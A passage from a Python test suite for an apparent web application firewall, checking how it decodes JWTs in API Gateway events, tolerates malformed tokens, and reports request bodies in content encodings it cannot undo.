    ev = json.loads((FIXTURES / "powertools" / "apiGatewayProxyEvent.json").read_text())
    ev["queryStringParameters"] = {"token": attack}
    assert "queryStringParameters.token.jwt.payload.email" in {f.location for f in Firewall().inspect(ev).findings}
    cognito = _token(
        {"kid": "abcdEFGH1234=", "alg": "RS256"},
        {
            "sub": "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee",
            "cognito:groups": ["admin"],
            "iss": "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_example",
            "name": "Jane O'Neil",
            "email": "jane@example.com",
            "token_use": "id",
            "exp": 1700000000,
        },
    )
    assert Firewall().inspect(_with_header("Authorization", "Bearer " + cognito)).findings == []


@pytest.mark.parametrize(
    "text",
    ["eyJhbGciOi", "eyJ.eyJ.", "eyJhbGciOiJub25lIn0.!!!.x", "eyJ" + "A" * 30 + ".eyJ" + "B" * 30 + ".", "Bearer eyJ"],
)
def test_broken_tokens_are_read_as_far_as_they_go_without_raising(text: str) -> None:
    from hullguard.firewall.decoders import jwt

    assert isinstance(jwt.parts(text), list)
    Firewall().inspect(_with_header("Authorization", text))


def test_an_encrypted_tokens_header_alone_is_read() -> None:
    from hullguard.firewall.decoders import jwt

    jwe = f"{_segment({'alg': 'RSA-OAEP', 'enc': 'A256GCM'})}.{_segment({'x': 1})}.iv.ciphertext.tag"
    assert [name for name, _ in jwt.parts(jwe)] == ["header"]


def test_a_body_in_a_content_encoding_the_firewall_cannot_undo_is_read_as_it_is_and_reported() -> None:
    """Express 5 undoes brotli; the standard library cannot. The body is still read as it is (a handler
    that ignores the header parses it so), and the inspection says it was not complete."""
    ev = json.loads((FIXTURES / "powertools" / "apiGatewayProxyEvent.json").read_text())
    ev.update(body=base64.b64encode(b"\x1b\x12\x00\xf8\x8d\x94\xa4\x89\x0c\x1e").decode(), isBase64Encoded=True)
    ev["headers"]["Content-Encoding"] = "br"
    verdict = Firewall().inspect(ev)
    assert verdict.budget_exhausted and "content encoding 'br'" in (verdict.incomplete_reason or "")
    assert Firewall(policy={"on_budget_exhausted": "block"}).inspect(ev).blocked
    ev["body"] = base64.b64encode(json.dumps({"q": SQLI}).encode()).decode()  # the header lies
    assert "body.q" in {f.location for f in Firewall(detectors=TEST_DETECTORS).inspect(ev).findings}
    ev["headers"]["Content-Encoding"] = "gzip"  # recognised by its bytes
    ev["body"] = base64.b64encode(gzip.compress(b'{"q": "fine"}')).decode()
    assert not Firewall().inspect(ev).budget_exhausted
